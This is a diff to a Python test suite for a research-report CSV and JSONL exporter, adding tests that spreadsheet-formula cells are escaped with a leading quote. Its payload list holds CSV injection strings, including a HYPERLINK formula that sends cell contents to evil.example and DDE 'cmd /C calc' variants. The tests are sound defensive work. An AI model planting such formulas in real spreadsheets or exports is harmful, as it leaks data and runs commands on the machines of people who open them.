@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 
 from reports.research import write_csv, write_jsonl
 from reports.research.tabular import csv_columns, record_json
+from reports.spreadsheet_safety import FORMULA_STARTS, spreadsheet_safe
 
 from .factories import make_record, tricky_records
 
@@ -50,11 +51,36 @@ def test_csv_round_trip_keeps_emoji_rtl_crlf_quotes_and_semicolons():
     assert len(rows) == len(records)
     for row, record in zip(rows, records, strict=True):
         assert row["id"] == record.export_id
-        assert row["text"] == record.text
+        assert row["text"] == spreadsheet_safe(record.text)
         assert (row["period"], row["area"], row["age_band"]) == ("2026-Q1", "West", "30-44")
         assert row["themes"].split(";") == (list(record.theme_keys) or [""])
         for key in ("eenzaamheid", "armoede", "gezondheid"):
             assert row[f"theme_{key}"] == ("1" if key in record.theme_keys else "0")
+
+
+INJECTION_PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_come_out_as_inert_text():
+    records = [make_record(i, payload) for i, payload in enumerate(INJECTION_PAYLOADS, 1)]
+    rows = read_csv_rows(csv_bytes(records))
+    assert [row["text"] for row in rows] == ["'" + payload for payload in INJECTION_PAYLOADS]
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(FORMULA_STARTS), value
+
+
+def test_spreadsheet_safe_leaves_ordinary_text_and_numbers_alone():
+    assert spreadsheet_safe("Ik kom graag: 3 + 4 = 7") == "Ik kom graag: 3 + 4 = 7"
+    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None
 
 
 def test_csv_theme_columns_default_to_the_themes_present_sorted():
@@ -95,6 +121,7 @@ def test_jsonl_lines_stay_whole_for_readers_that_split_on_unicode_line_breaks():
 @given(texts=st.lists(st.text(), min_size=1, max_size=5))
 def test_any_text_survives_csv_and_jsonl(texts):
     records = [make_record(number, text) for number, text in enumerate(texts, start=1)]
-    assert [row["text"] for row in read_csv_rows(csv_bytes(records))] == texts
+    expected = [spreadsheet_safe(text) for text in texts]
+    assert [row["text"] for row in read_csv_rows(csv_bytes(records))] == expected
     lines = jsonl_bytes(records).decode("utf-8").splitlines()
     assert [json.loads(line)["text"] for line in lines] == texts
